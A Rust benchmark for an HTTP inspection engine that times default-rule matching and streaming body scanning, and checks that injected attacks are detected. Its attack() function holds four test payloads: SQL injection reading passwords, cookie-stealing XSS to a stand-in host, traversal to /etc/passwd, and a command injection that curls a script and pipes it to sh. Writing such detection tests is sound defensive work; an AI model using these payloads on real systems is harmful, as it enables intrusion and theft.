//! Per-core cost of rule matching with the default ruleset (`rules/default`)
//! on the realistic API mix of `benches/traffic.rs`, with one request in 32
//! (about 3%) replaced by an attack, beside the no-rules parse figure from
//! the same run; and streaming body-scan throughput (GB/s) over JSON text
//! beside a plain copy of the same bytes.
//!
//! Before timing, every attack must make a rule hold, or the bench fails
//! instead of printing a figure; hits on benign transactions are counted
//! and printed (false positives of the default rules on this mix).
//!
//! Targets: inspection costs no more than half of parsing throughput
//! (parse + inspect >= 0.5 x parse alone); body scanning >= 2 GB/s.
//! Run: `benches/rules.sh`, or `cargo bench --bench rules`
//! (`RULES_SECS`, default 2, per figure, split over `RULES_ROUNDS`
//! alternating rounds, default 15, whose median ratio is printed: the
//! machine's speed may change within seconds, and short alternating
//! rounds see both passes at the same speed; `RULES_PROFILE=1` runs only the
//! inspected pass, for a profiler; `RULES_PHASES=1` prints what each
//! inspection phase costs a transaction, parsing left out; `RULES_SPLIT=1`
//! splits the inspected pass into the time spent inspecting and the time
//! left to parsing, beside parsing alone: what inspection costs in place,
//! and how much slower parsing runs beside it).

#[path = "traffic.rs"]
mod traffic;

use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use palisade_dataplane::engine::{Matcher, Phase, Snapshot};
use palisade_dataplane::flow::Direction;
use palisade_dataplane::http::{HttpConfig, HttpConnection, HttpObserver, Transaction};
use traffic::{measure, parse_all, Conn};

#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

/// One request in this many is an attack.
const ATTACK_EVERY: usize = 32;
/// Alternating (parse, parse + rules) rounds by default; the ratio
/// printed is their median.
const ROUNDS: usize = 15;
/// Bytes of JSON text the body-scan figure streams.
const SCAN_BYTES: usize = 32 << 20;
/// Bytes per body piece handed to the stream (what a few segments carry).
const PIECE: usize = 16 << 10;

const CLIENT: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 7));

fn main() {
    let secs = std::env::var("RULES_SECS")
        .ok()
        .and_then(|v| v.parse::<f64>().ok())
        .unwrap_or(2.0);
    let mut traffic = traffic::traffic();
    let attacks = inject_attacks(&mut traffic);
    let txs = traffic.iter().map(|c| c.exchanges.len()).sum::<usize>() as f64;
    let snapshot = Arc::new(
        Snapshot::from_files(&palisade_tests::yaml_files("rules/default")).expect("default rules"),
    );
    let mut matcher = Matcher::new(Arc::clone(&snapshot)).expect("scratch");

    let (hit_attacks, false_positives) = check(&traffic, &mut matcher);
    assert_eq!(hit_attacks, attacks, "every attack must make a rule hold");
    let stats = *matcher.stats();
    println!(
        "rules: {} rules, {attacks} attacks all detected, {false_positives} benign transactions hit; \
         per transaction: {:.1} scans, {:.2} body phases cleared by the raw-body screen",
        snapshot.rule_count(),
        stats.scans as f64 / txs,
        stats.screened as f64 / txs,
    );

    if std::env::var_os("RULES_PHASES").is_some() {
        phase_costs(&traffic, &mut matcher, secs);
        return;
    }
    if std::env::var_os("RULES_SPLIT").is_some() {
        split(&traffic, &mut matcher, secs);
        return;
    }
    if std::env::var_os("RULES_PROFILE").is_some() {
        // Only the inspected pass, for a profiler to attach to.
        measure(secs, || {
            black_box(inspect_all(&traffic, &mut matcher));
        });
        return;
    }
    // Alternating rounds, so that a change in the machine's load between
    // the two figures shows as spread instead of moving the ratio.
    let count = std::env::var("RULES_ROUNDS")
        .ok()
        .and_then(|v| v.parse::<usize>().ok())
        .filter(|n| *n > 0)
        .unwrap_or(ROUNDS);
    let mut rounds: Vec<(f64, f64)> = (0..count)
        .map(|_| {
            let slice = secs / count as f64;
            let parse = measure(slice, || parse_all(&traffic)) * txs;
            let inspected = measure(slice, || {
                black_box(inspect_all(&traffic, &mut matcher));
            }) * txs;
            (parse, inspected)
        })
        .collect();
    rounds.sort_by(|a, b| (a.1 / a.0).total_cmp(&(b.1 / b.0)));
    let (parse, inspected) = rounds[count / 2];
    let ratio = inspected / parse;
    let (low, high) = (
        rounds[0].1 / rounds[0].0,
        rounds[count - 1].1 / rounds[count - 1].0,
    );
    let verdict = if ratio >= 0.5 { "met" } else { "MISSED" };
    println!("parse only: {parse:.0} tx/s; parse + default rules: {inspected:.0} tx/s ({ratio:.2}, median of {count} alternating rounds, {low:.2} to {high:.2}); target >= 0.5 {verdict}");

    let (scan, copy) = scan_figures(&mut matcher, secs);
    let verdict = if scan >= 2.0 { "met" } else { "MISSED" };
    println!("body scan (streaming, default rules): {scan:.2} GB/s; copy of the same bytes: {copy:.2} GB/s; target >= 2 GB/s {verdict}");
    println!();
    println!(
        "| HTTP/1.x parsing + default rules ({} rules, 3% attacks), 1 core | {:.0} ktx/s | parse only {:.0} ktx/s | {ratio:.2} |",
        snapshot.rule_count(),
        inspected / 1e3,
        parse / 1e3
    );
    println!(
        "| response body scan, streaming, default rules, 1 core | {scan:.2} GB/s | memory copy {copy:.2} GB/s | {:.2} |",
        scan / copy
    );
}

/// Attack requests, one per class the default rules cover.
fn attack(n: usize) -> Vec<u8> {
    let json =
        br#"{"comment":"<script>document.location='//x.example/'+document.cookie</script>"}"#;
    match n % 4 {
        0 => traffic::request(
            "GET",
            "/api/v1/products?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
            None,
        ),
        1 => traffic::request("POST", "/api/v1/reviews", Some(json)),
        2 => traffic::request("GET", "/api/v1/files?name=../../../../etc/passwd", None),
        _ => traffic::request(
            "GET",
            "/api/v1/ping?host=127.0.0.1;curl%20http://x.example/s|sh",
            None,
        ),
    }
}

/// Replaces every [`ATTACK_EVERY`]-th request with an attack; returns how
/// many.
fn inject_attacks(traffic: &mut [Conn]) -> usize {
    let mut n = 0;
    for (i, ex) in traffic
        .iter_mut()
        .flat_map(|c| c.exchanges.iter_mut())
        .enumerate()
    {
        if i % ATTACK_EVERY == ATTACK_EVERY - 1 {
            ex.0 = attack(n);
            n += 1;
        }
    }
    n
}

/// Inspects each finished transaction; counts those with a hit, and, when
/// asked, the time spent inspecting.
struct Inspect<'a> {
    matcher: &'a mut Matcher,
    hits: Vec<bool>,
    inspecting: Option<Duration>,
}

impl HttpObserver for Inspect<'_> {
    fn transaction(&mut self, tx: Transaction) {
        let at = self.inspecting.map(|_| Instant::now());
        let hits = self.matcher.inspect_transaction(&tx, CLIENT);
        self.hits.push(!hits.is_empty());
        if let (Some(spent), Some(at)) = (&mut self.inspecting, at) {
            *spent += at.elapsed();
        }
    }
}

/// Parses and inspects everything; per transaction, whether a rule held.
fn inspect_all(traffic: &[Conn], matcher: &mut Matcher) -> Vec<bool> {
    inspect_timed(traffic, matcher, false).0
}

/// [`inspect_all`], and with `timed` the time spent inspecting.
fn inspect_timed(traffic: &[Conn], matcher: &mut Matcher, timed: bool) -> (Vec<bool>, Duration) {
    let config = HttpConfig::default();
    let mut obs = Inspect {
        matcher,
        hits: Vec::new(),
        inspecting: timed.then_some(Duration::ZERO),
    };
    for conn in traffic {
        traffic::replay(conn, &config, &mut obs);
    }
    (obs.hits, obs.inspecting.unwrap_or_default())
}

/// Prints, per transaction, parsing alone beside the inspected pass split
/// into inspecting and the rest (parsing beside inspection); medians of
/// alternating passes.
fn split(traffic: &[Conn], matcher: &mut Matcher, secs: f64) {
    let txs = traffic.iter().map(|c| c.exchanges.len()).sum::<usize>() as f64;
    let per_tx = |d: Duration| d.as_nanos() as f64 / txs;
    let (mut alone, mut inspected, mut inspecting) = (Vec::new(), Vec::new(), Vec::new());
    let start = Instant::now();
    while start.elapsed().as_secs_f64() < secs || alone.is_empty() {
        let at = Instant::now();
        parse_all(traffic);
        alone.push(per_tx(at.elapsed()));
        let at = Instant::now();
        let (hits, spent) = inspect_timed(traffic, matcher, true);
        black_box(hits);
        inspected.push(per_tx(at.elapsed()));
        inspecting.push(per_tx(spent));
    }
    let median = |mut v: Vec<f64>| {
        v.sort_by(f64::total_cmp);
        v.get(v.len() / 2).copied().unwrap_or_default()
    };
    let (alone, inspected, inspecting) = (median(alone), median(inspected), median(inspecting));
    let beside = inspected - inspecting;
    println!(
        "per transaction: parsing alone {alone:.0} ns; parsing + rules {inspected:.0} ns \
         ({:.2} of the rate of parsing alone) = inspecting {inspecting:.0} ns ({:.2} x parsing alone) \
         + parsing beside it {beside:.0} ns ({:.2} x)",
        alone / inspected,
        inspecting / alone,
        beside / alone
    );
}

/// Collects every transaction of the traffic, parsed once.
#[derive(Default)]
struct Keep(Vec<Transaction>);

impl HttpObserver for Keep {
    fn transaction(&mut self, tx: Transaction) {
        self.0.push(tx);
    }
}

/// Prints the mean cost of each phase per transaction, over transactions
/// parsed beforehand (so no parsing is timed).
fn phase_costs(traffic: &[Conn], matcher: &mut Matcher, secs: f64) {
    let config = HttpConfig::default();
    let mut kept = Keep::default();
    for conn in traffic {
        traffic::replay(conn, &config, &mut kept);
    }
    let mut spent = [Duration::ZERO; 4];
    let mut passes = 0u32;
    let start = Instant::now();
    while start.elapsed().as_secs_f64() < secs {
        for tx in &kept.0 {
            let mut insp = matcher.start();
            for (phase, spent) in Phase::ALL.into_iter().zip(spent.iter_mut()) {
                let at = Instant::now();
                black_box(matcher.inspect(&mut insp, tx, CLIENT, phase));
                *spent += at.elapsed();
            }
        }
        passes += 1;
    }
    let per_tx = |d: Duration| d.as_nanos() as f64 / f64::from(passes) / kept.0.len() as f64;
    for (phase, spent) in Phase::ALL.iter().zip(spent) {
        println!("{phase:?}: {:.0} ns per transaction", per_tx(spent));
    }
    println!(
        "all phases: {:.0} ns per transaction",
        per_tx(spent.iter().sum())
    );
}

/// (attacks with a hit, benign transactions with a hit).
fn check(traffic: &[Conn], matcher: &mut Matcher) -> (usize, usize) {
    let hits = inspect_all(traffic, matcher);
    let attack = |i: usize| i % ATTACK_EVERY == ATTACK_EVERY - 1;
    let caught = hits
        .iter()
        .enumerate()
        .filter(|(i, h)| attack(*i) && **h)
        .count();
    let benign = hits
        .iter()
        .enumerate()
        .filter(|(i, h)| !attack(*i) && **h)
        .count();
    (caught, benign)
}

/// GB/s of the streaming response-body scan and of copying the same bytes.
fn scan_figures(matcher: &mut Matcher, secs: f64) -> (f64, f64) {
    let mut rng = traffic::Rng(0x5ca1_ab1e);
    let mut body = Vec::with_capacity(SCAN_BYTES + 4096);
    while body.len() < SCAN_BYTES {
        body.extend_from_slice(&traffic::json_object(&mut rng, 1500, 500));
        body.push(b'\n');
    }
    let tx = sample_transaction();
    let scan = measure(secs, || {
        let mut insp = matcher.start();
        let mut stream = matcher.body_stream(&insp, Direction::ToInitiator);
        for piece in body.chunks(PIECE) {
            stream.feed(matcher, piece);
        }
        black_box(stream.finish(matcher, &mut insp, &tx, CLIENT));
    });
    let mut copy_to = vec![0u8; body.len()];
    let copy = measure(secs, || {
        copy_to.copy_from_slice(&body);
        black_box(&copy_to);
    });
    let gb = body.len() as f64 / 1e9;
    (scan * gb, copy * gb)
}

/// A small finished transaction for the stream's final evaluation.
fn sample_transaction() -> Transaction {
    #[derive(Default)]
    struct Last(Option<Transaction>);
    impl HttpObserver for Last {
        fn transaction(&mut self, tx: Transaction) {
            self.0 = Some(tx);
        }
    }
    let mut http = HttpConnection::new(&HttpConfig::default());
    let mut last = Last::default();
    let request = b"GET /api/v1/export HTTP/1.1\r\nHost: api.example.com\r\n\r\n";
    let response =
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}";
    http.data(Direction::ToResponder, request, 1, &mut last);
    http.data(Direction::ToInitiator, response, 2, &mut last);
    http.close(3, &mut last);
    last.0.expect("a transaction")
}
